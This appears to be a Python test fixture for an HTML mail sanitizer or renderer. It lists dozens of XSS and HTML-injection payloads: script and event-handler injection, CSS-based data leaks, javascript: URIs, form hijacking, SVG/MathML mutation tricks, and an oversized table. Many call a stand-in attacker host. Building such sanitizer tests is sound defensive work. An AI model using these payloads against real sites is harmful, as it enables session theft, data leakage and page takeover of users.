"""HTML that attacks who reads it: each piece of our own making, all aimed at one host that must never be asked."""

from __future__ import annotations

SCRIPTS = (
    "<script>top.hacked=1;fetch('{0}/s1')</script>",
    "<script src='{0}/s2'></script>",
    "<SCRIPT/XSS SRC='{0}/s3'></SCRIPT>",
    "<<script>top.hacked=1//<</script>",
    "<script\n>top.hacked=1</script\n>",
    "<noscript><p title='</noscript><img src=x onerror=top.hacked=1>'></noscript>",
    "<template><script>top.hacked=1</script></template>",
    "<xmp><p title='</xmp><img src=x onerror=top.hacked=1>'></xmp>",
    "<textarea><p title='</textarea><img src=x onerror=top.hacked=1>'></textarea>",
    "<title><p title='</title><img src=x onerror=top.hacked=1>'></title>",
    "<!--><img src=x onerror=top.hacked=1>-->",
    "<!-- --!><img src=x onerror=top.hacked=1> -->",
    "<![CDATA[<img src=x onerror=top.hacked=1>]]>",
)
HANDLERS = (
    "<img src=x onerror=top.hacked=1>",
    "<img src=x:x oNeRrOr='top.hacked=1'>",
    "<body onload=top.hacked=1><p onmouseover=top.hacked=1>p</p>",
    "<details open ontoggle=top.hacked=1>d</details>",
    "<input autofocus onfocus=top.hacked=1>",
    "<video><source onerror=top.hacked=1></video>",
    "<audio src=x onerror=top.hacked=1></audio>",
    "<marquee onstart=top.hacked=1>m</marquee>",
    "<p style='animation:x' onanimationstart=top.hacked=1>a</p><style>@keyframes x{{}}</style>",
    "<a id=x tabindex=1 onfocus=top.hacked=1 autofocus>a</a>",
)
STYLES = (
    "<style>@import url({0}/c1);body{{background:url({0}/c2)}}</style>",
    "<style>@font-face{{font-family:f;src:url({0}/c3)}}p{{font-family:f}}</style><p>huruf</p>",
    "<style>input[value^='a']{{background:url({0}/c4)}}</style><input value=abc>",
    "<p style=\"background-image:url('{0}/c5')\">p</p>",
    "<p style='content:url({0}/c6);list-style:url({0}/c7);cursor:url({0}/c8),auto'>p</p>",
    "<div style='position:fixed;inset:0;background:#fff;z-index:9999'>menutupi</div>",
    "<link rel=stylesheet href={0}/c9><link rel=preload as=image href={0}/c10><link rel=prefetch href={0}/c11>",
    "<link rel=dns-prefetch href=//evil.invalid><link rel=preconnect href={1}>",
    "<table background={0}/c12><tr><td background={0}/c13>sel</td></tr></table>",
    "<font color=red face='x;background:url({0}/c14)'>f</font>",
)
LINKS = (
    "<a href='javascript:top.hacked=1'>a</a>",
    "<a href='java\tscript:top.hacked=1'>b</a>",
    "<a href='&#106;avascript:top.hacked=1'>c</a>",
    "<a href=' \x01javascript:top.hacked=1'>d</a>",
    "<a href='vbscript:top.hacked=1'>e</a>",
    "<a href='data:text/html,<script>top.hacked=1</script>'>f</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD50b3AuaGFja2VkPTE8L3NjcmlwdD4='>g</a>",
    "<a href='blob:{1}/x'>h</a><a href='file:///etc/passwd'>i</a><a href='//evil.invalid/l'>j</a>",
    "<a href='/logout'>k</a><a href='?reveal=1'>l</a>",
    "<a ping='{0}/l1' href='{0}/l2'>m</a>",
    "<map name=m><area href='javascript:top.hacked=1' shape=rect coords=0,0,9,9></map><img usemap=#m src={0}/l3>",
    "<base href='{0}/'><base target=_top>",
)
FORMS = (
    "<form action={0}/f1 id=f><input name=q><button>kirim</button></form>",
    "<button form=letter-form formaction={0}/f2>kirim</button>",
    "<form><input type=image src={0}/f3><input type=submit formaction='javascript:top.hacked=1'></form>",
    "<isindex action={0}/f4><keygen name=k>",
    "<select><option>a</select><textarea>t</textarea>",
)
REFRESH = (
    "<meta http-equiv=refresh content='0;url={0}/r1'>",
    "<meta http-equiv=refresh content='0;url=javascript:top.hacked=1'>",
    "<meta http-equiv=set-cookie content='a=b'><meta http-equiv=Content-Security-Policy content='script-src *'>",
    "<iframe src={0}/r2></iframe><iframe srcdoc='<script>top.hacked=1</script>'></iframe>",
    "<frameset><frame src={0}/r3></frameset>",
    "<object data={0}/r4></object><embed src={0}/r5><applet code={0}/r6></applet>",
    "<portal src={0}/r7></portal><bgsound src={0}/r8>",
)
DRAWINGS = (
    "<svg onload=top.hacked=1><script>top.hacked=1</script><image href={0}/v1 /></svg>",
    "<svg><use href='{0}/v2#a'/><foreignObject><img src={0}/v3></foreignObject></svg>",
    "<svg><animate attributeName=href values='javascript:top.hacked=1'/><a><text>a</text></a></svg>",
    "<svg><style>*{{background:url({0}/v4)}}</style><p title='</style><img src=x onerror=top.hacked=1>'></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=top.hacked=1>'></math>",
    "<math><maction actiontype=statusline xlink:href='javascript:top.hacked=1'>m</maction></math>",
    "<math href='javascript:top.hacked=1'>m</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=top.hacked=1>",
    '<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="top.hacked=1"/>\'>',
)
IMAGES = (
    "<img src={0}/i1.png><img src='{1}/i2.gif' width=1 height=1><img src=//evil.invalid/i3>",
    "<img srcset='{0}/i4 1x, {0}/i5 2x'><picture><source srcset={0}/i6><img alt=a></picture>",
    "<img lowsrc={0}/i7 dynsrc={0}/i8 longdesc={0}/i9>",
    "<video poster={0}/i10 src={0}/i11></video><audio src={0}/i12></audio><track src={0}/i13>",
    "<input type=image src={0}/i14><image src={0}/i15>",
)
FAMILIES = {
    "scripts": SCRIPTS,
    "handlers": HANDLERS,
    "styles": STYLES,
    "links": LINKS,
    "forms": FORMS,
    "refresh": REFRESH,
    "drawings": DRAWINGS,
    "images": IMAGES,
}


def pieces(host: str = "evil.invalid") -> list[str]:
    """Return every attack, each as a document of its own, so that no unclosed one swallows the next."""
    urls = (f"http://{host}", f"https://{host}")
    return [piece.format(*urls).replace("evil.invalid", host) for family in FAMILIES.values() for piece in family]


def mail() -> str:
    """Return the HTML of a mail with all of them, and a sentence that must remain."""
    body = "\n".join(f"<div>{piece}</div>" for piece in pieces())
    return f"<html><head></head><body><p>Awal surat.</p>\n{body}\n</body></html>"


def giant_table() -> str:
    """Return a table that no screen needs, within the size that is shown at all."""
    row = "<tr>" + "<td colspan=1000 rowspan=65534>x</td>" * 20 + "</tr>"
    return f"<p>Awal surat tabel.</p><table width=999999 border=9999 cellpadding=99999>{row * 300}</table>"
